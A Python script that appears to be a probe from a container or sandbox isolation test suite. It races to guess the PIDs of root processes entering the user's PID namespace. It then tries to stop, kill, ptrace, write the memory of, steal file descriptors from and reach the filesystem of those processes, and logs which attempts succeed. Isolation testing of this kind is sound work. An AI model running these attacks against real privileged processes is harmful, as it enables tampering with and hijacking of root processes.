# SPDX-License-Identifier: BSD-3-Clause
"""
herald.py FILE SECONDS: processes of the user's that mind no signal, and lie in wait for root's process that comes into their PID
namespace to send them one: they stop, kill, trace and open whatever has one of the next pids. Each new outcome is a line of FILE:
"name outcome ...", or "- outcome" where there is nobody of root's. Runs inside of a login, prints "ready".
"""

import contextlib
import os
import signal
import sys
import time

from probe import outcome, sc

WATCHERS = 3
AHEAD = 24


def name_of(pid: int) -> str:
    """Of a process that is not the user's: root is not mapped."""
    try:
        if os.stat(f"/proc/{pid}").st_uid == os.getuid():
            return ""
        with open(f"/proc/{pid}/comm") as file:
            return file.read().strip()
    except OSError:
        return ""


def attack(pid: int) -> list[str]:
    return [outcome(action) for action in (
        lambda: os.kill(pid, signal.SIGSTOP), lambda: os.kill(pid, signal.SIGKILL), lambda: sc.ptrace(0x4206, pid, 0, 0),
        lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)), lambda: sc.pidfd_getfd(os.pidfd_open(pid), 0, 0),
        lambda: sc.prlimit(pid, 7, 0, 0), lambda: sc.setpriority(0, pid, 19),
        lambda: os.close(os.open(f"/proc/{pid}/fd/3", os.O_RDONLY)), lambda: os.close(os.open(f"/proc/{pid}/root/etc", os.O_RDONLY)))]


def watch(path: str, end: float) -> None:
    seen: set[str] = set()
    while time.monotonic() < end:
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        for ahead in range(1, AHEAD):
            with contextlib.suppress(OSError):
                os.kill(pid + ahead, signal.SIGSTOP)
            name = name_of(pid + ahead)
            if not name:
                continue
            text = f"{name} {' '.join(attack(pid + ahead))}\n"
            if text not in seen:
                seen.add(text)
                with open(path, "a") as file:
                    file.write(text)


def main() -> None:
    path, end = sys.argv[1], time.monotonic() + float(sys.argv[2])
    for number in range(1, signal.NSIG):
        if number not in (signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD, 32, 33):
            signal.signal(number, signal.SIG_IGN)
    open(path, "w").close()
    for _ in range(WATCHERS):
        if os.fork() == 0:
            os.setsid()
            os.closerange(0, 3)
            watch(path, end)
            os._exit(0)
    print("ready", flush=True)


main()
